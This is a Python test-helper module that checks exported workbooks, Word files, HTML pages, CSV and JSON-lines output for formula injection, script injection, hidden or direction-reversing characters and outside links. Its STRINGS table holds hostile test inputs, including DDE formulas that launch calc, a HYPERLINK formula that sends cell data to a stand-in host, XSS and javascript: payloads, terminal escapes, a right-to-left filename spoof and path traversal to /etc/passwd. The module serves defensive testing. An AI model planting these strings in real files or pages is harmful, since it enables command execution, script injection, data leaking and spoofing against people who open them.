"""Strings that do harm where they are not neutral, and what to ask of a file that should bear none of it."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import unquote, urlsplit

from lxml import etree, html

OVERRIDE, ISOLATE, MARK, NO_WIDTH = "\u202e", "\u2067", "\u200f", "\u200b"
STRINGS = {
    "formula": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "link formula": '=HYPERLINK("http://a.example/?x="&A1,"open")',
    "plus": "+44 1632 960001",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "array": "{=1+1}",
    "tab before": "\t=1+1",
    "line end before": "\r\n=1+1",
    "blank before": "   =1+1",
    "hard blank before": "\u00a0=1+1",
    "byte order mark before": "\ufeff=1+1",
    "nothing seen before": f"{NO_WIDTH}{OVERRIDE}=1+1",
    "full width": "＝1+1",
    "full width at": "＠SUM(A1)",
    "new cell": '";=1+1;"',
    "new row": 'end"\r\n=1+1,"',
    "script": "<script>alert(1)</script>",
    "attribute": "\"><img src=x onerror=alert(1)>' onload='alert(1)",
    "template": "{{ 7*7 }}{% for x in y %}",
    "entity": "&lt;b&gt; &#x202e; ]]> -->",
    "scheme": "javascript:alert(1)",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "other machine": "\\\\host.example\\share\\x",
    "file address": "file://host.example/share/x",
    "Markdown": "![x](http://a.example/x.png) [y](javascript:alert(1)) <http://a.example>",
    "mark-up of the terminal": "[bold red]x[/bold red] [link=http://a.example]y[/link]",
    "terminal": "\x1b[2J\x1b]0;title\x07\x9b31m\x08\x7f",
    "title of a window": "\x1b]8;;http://a.example\x1b\\x\x1b]8;;\x1b\\",
    "override": f"plan{OVERRIDE}fdp.exe",
    "isolates": f"a{ISOLATE}b\u2066c\u2068d\u2069e\u202a\u202b\u202c\u202df",
    "marks": f"a\u200e{MARK}\u061c\u200b\u200c\u200d\u2060\ufeff\u00adb",
    "hidden letters": "a\U000e0041\U000e0042b",
    "lines": "a\u2028b\u2029c\x85d\x0be\x0cf\ng\rh",
    "no XML": "a\x00b\x01c\ufffed\uffffe\x1f",
    "cell escape": "_x0041__x000D__x202E_",
    "up": "../../../etc/passwd",
    "root": "/etc/passwd",
    "device": "CON",
    "null": "plan%00.exe",
    "dots": "board...  ",
    "long": "Board " * 60,
}
SEEN_BY_NOBODY = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ud800-\udfff\ufeff\ufffe\uffff"
    "\U000e0000-\U000e007f]"
)
"""Beside the newline, which parts lines."""


def assert_visible(text: str, where: str) -> None:
    found = SEEN_BY_NOBODY.search(text)
    assert not found, f"{where}: {text[max(0, found.start() - 40) : found.end() + 20]!r}"


def check_workbook(path: Path) -> int:
    """The number of its links. No formula, no macro, no address but of papers; XML that shows all it holds."""
    for name, root in xml_parts(path):
        tags = [etree.QName(each).localname for each in root.iter("{*}*")]
        assert "f" not in tags or name.startswith("xl/charts/"), f"{name} holds a formula"
        for each in root.iter("{*}f"):
            assert re.fullmatch(r"=?Boards!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?", each.text or ""), each.text
    return check_addresses(path)


def check_word(path: Path) -> int:
    """The number of its links. No field but the page numbers, no address but of the papers."""
    for name, root in xml_parts(path):
        fields = [value for each in root.iter("{*}fldSimple", "{*}instrText") for value in each.attrib.values()]
        assert set(fields) <= {"PAGE", "NUMPAGES"}, name
    return check_addresses(path)


def xml_parts(path: Path) -> Iterator[tuple[str, etree._Element]]:
    with zipfile.ZipFile(path) as parts:
        for name in parts.namelist():
            assert not name.endswith(".bin"), f"{path.name}: {name}"
            if name.endswith((".xml", ".rels")):
                root = etree.fromstring(parts.read(name))
                for each in root.iter("{*}*"):
                    for text in (each.text, each.tail, *each.attrib.values()):
                        assert_visible(str(text or "").replace("\t", "").replace("\r", ""), f"{path.name}, {name}")
                yield name, root


def check_addresses(path: Path) -> int:
    told = []
    for name, root in xml_parts(path):
        if name.endswith(".rels"):
            told += [each.get("Target", "") for each in root if each.get("TargetMode") == "External"]
    for address in told:
        check_address(address, path.parent)
    return len(told)


def check_address(address: str, folder: Path) -> None:
    """It names no scheme and no other machine, and leads to a paper that is there."""
    parts = urlsplit(address)
    assert not parts.scheme and not parts.netloc and "\\" not in address, address
    assert_visible(address, "an address")
    assert (folder / unquote(parts.path, errors="surrogateescape")).is_file(), address


def check_page(path: Path) -> int:
    """The number of its links. Nothing runs, nothing is fetched, links lead to papers."""
    text = path.read_bytes().decode("utf-8")
    assert_visible(text, path.name)
    root = html.fromstring(text)
    tags = {each.tag for each in root.iter() if isinstance(each.tag, str)}
    assert not tags & {"script", "iframe", "object", "embed", "form", "link", "base", "img", "b"}
    for each in root.iter():
        assert not [name for name in each.attrib if name.startswith("on") or name in ("src", "srcdoc", "formaction")]
    addresses = [each.get("href", "") for each in root.iter("a")]
    for address in addresses:
        check_address(address, path.parent)
    assert "49" not in root.xpath("string(//h1)")
    return len(addresses)


def check_csv(path: Path) -> list[list[str]]:
    """Its rows. Every row as long as the header, no cell a formula, whatever separator a program takes."""
    text = path.read_bytes().decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert all(len(row) == len(header) for row in rows), path.name
    for cell in (cell for row in (header, *rows) for cell in row):
        assert_visible(cell, path.name)
        assert is_number(cell) or not is_formula(cell), f"{path.name}: {cell!r}"
    unquoted = re.sub(r'"(?:[^"]|"")*"', "", text)
    assert re.fullmatch(r"[-\d.,e\r\n]*", unquoted), path.name
    return rows


def is_formula(cell: str) -> bool:
    first = unicodedata.normalize("NFKC", cell.strip())[:1]
    return first != "" and first in "=+-@"


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def check_json_lines(path: Path) -> list[dict[str, object]]:
    """Its objects; as many as its lines, whatever a program takes for the end of a line."""
    text = path.read_bytes().decode("utf-8")
    assert_visible(text, path.name)
    lines = text.splitlines()
    assert len(lines) == text.count("\n")
    return [json.loads(line) for line in lines]


def check_text(path: Path) -> None:
    """Shows all it holds."""
    assert_visible(path.read_bytes().decode("utf-8"), path.name)


CHECKS: dict[str, Callable[[Path], object]] = {
    **{".xlsx": check_workbook, ".docx": check_word, ".html": check_page, ".csv": check_csv},
    **{".jsonl": check_json_lines, ".json": check_text, ".log": check_text},
}


def check_results(folder: Path) -> None:
    """Each file of a folder of results, by its kind; and nothing is left of the writing."""
    for path in sorted(folder.rglob("*")):
        assert not path.name.endswith(".part") and not path.is_symlink()
        assert_visible(path.name, "a file's name")
        if path.suffix in CHECKS:
            CHECKS[path.suffix](path)
